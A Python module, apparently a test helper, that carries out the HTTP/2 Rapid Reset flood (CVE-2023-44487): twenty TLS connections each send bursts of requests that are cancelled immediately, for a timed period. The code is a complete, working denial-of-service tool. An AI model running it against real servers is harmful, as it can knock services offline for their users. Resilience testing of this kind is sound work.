"""Asks over HTTP/2 and takes every question back at once (CVE-2023-44487), on several connections.

    python -m tests.support.rapid_reset ADDRESS PORT ROOT HOST PATH SECONDS

Prints as JSON how many questions were asked and how many connections they took.
"""

import asyncio
import contextlib
import json
import ssl
import struct
import sys
import time

CONNECTIONS = 20
BURST = 100
"""Questions in one write."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = struct.pack(">I", 8)
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_STREAM_AND_HEADERS = 0x05


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame (RFC 9113 §4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(host: str, path: str) -> bytes:
    """Return a request's head: fields of HPACK's static table, with host and path in full (RFC 7541, appendix A)."""
    named = [(0x01, host.encode()), (0x04, path.encode())]
    return b"\x82\x87" + b"".join(bytes([index, len(value)]) + value for index, value in named)


def burst(first: int, fields: bytes) -> bytes:
    """Return questions that are taken back."""
    streams = range(first, first + 2 * BURST, 2)
    return b"".join(
        frame(HEADERS, END_STREAM_AND_HEADERS, stream, fields) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in streams
    )


async def drain(reader: asyncio.StreamReader) -> None:
    """Read until the server ends it."""
    with contextlib.suppress(OSError):
        while await reader.read(65536):
            pass


async def attack(address: str, port: int, root: str, host: str, path: str, seconds: float) -> dict[str, int]:
    """Ask and take back for some seconds."""
    context = ssl.create_default_context(cafile=root)
    context.set_alpn_protocols(["h2"])
    fields, until = head(host, path), time.monotonic() + seconds
    counts = {"asked": 0, "connections": 0}

    async def one() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(address, port, ssl=context, server_hostname=host)
                assert writer.get_extra_info("ssl_object").selected_alpn_protocol() == "h2"
                counts["connections"] += 1
                writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
                async with asyncio.TaskGroup() as group:
                    reading = group.create_task(drain(reader))
                    stream = 1
                    while time.monotonic() < until and not reading.done():
                        writer.write(burst(stream, fields))
                        counts["asked"] += BURST
                        stream += 2 * BURST
                        with contextlib.suppress(OSError):
                            await writer.drain()
                        await asyncio.sleep(0)
                    writer.transport.abort()

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(one())
    return counts


if __name__ == "__main__":
    address, port, root, host, path, seconds = sys.argv[1:]
    print(json.dumps(asyncio.run(attack(address, int(port), root, host, path, float(seconds)))))
